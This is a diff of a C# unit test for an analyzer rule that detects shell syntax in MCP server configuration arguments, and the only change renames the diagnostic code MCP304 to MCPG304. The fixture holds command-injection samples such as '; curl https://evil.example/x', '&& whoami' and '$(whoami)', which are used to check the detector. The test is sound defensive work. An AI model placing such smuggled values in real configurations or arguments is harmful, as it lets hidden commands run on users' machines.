@@ -12,17 +12,17 @@ public sealed class KeepShellSyntaxOutOfArgumentsRuleTests
         ConfigVerifier.For(".mcp.json", """
             {
               "mcpServers": {
-                "chain": { "command": "node", "args": ["dist/index.js", {|MCP304:"--name=x; curl https://evil.example/x"|}] },
-                "and": { "command": "node", "args": ["dist/index.js", {|MCP304:"&&"|}, "whoami"] },
-                "subst": { "command": "python3", "args": ["server.py", {|MCP304:"--name=$(whoami)"|}] },
-                "redirect": { "command": "node", "args": ["dist/index.js", {|MCP304:"> /tmp/out.txt"|}] },
-                "line": { "command": {|MCP304:"node dist/index.js | tee server.log"|} },
-                "tick": { "command": "node", "args": ["dist/index.js", {|MCP304:"--label=`printf zq81-private-value`"|}] }
+                "chain": { "command": "node", "args": ["dist/index.js", {|MCPG304:"--name=x; curl https://evil.example/x"|}] },
+                "and": { "command": "node", "args": ["dist/index.js", {|MCPG304:"&&"|}, "whoami"] },
+                "subst": { "command": "python3", "args": ["server.py", {|MCPG304:"--name=$(whoami)"|}] },
+                "redirect": { "command": "node", "args": ["dist/index.js", {|MCPG304:"> /tmp/out.txt"|}] },
+                "line": { "command": {|MCPG304:"node dist/index.js | tee server.log"|} },
+                "tick": { "command": "node", "args": ["dist/index.js", {|MCPG304:"--label=`printf zq81-private-value`"|}] }
               }
             }
             """)
             .ShouldNotMention("zq81-private-value")
-            .ShouldReportMessage("MCP304", "Server 'chain' passes shell syntax ('; curl') to 'node' at 'mcpServers.chain.args[1]'; the program is not a shell and receives it literally, and a client that starts servers through a shell would run it: remove it, or move the commands into a reviewed script")
+            .ShouldReportMessage("MCPG304", "Server 'chain' passes shell syntax ('; curl') to 'node' at 'mcpServers.chain.args[1]'; the program is not a shell and receives it literally, and a client that starts servers through a shell would run it: remove it, or move the commands into a reviewed script")
             .Verify();
     }
 
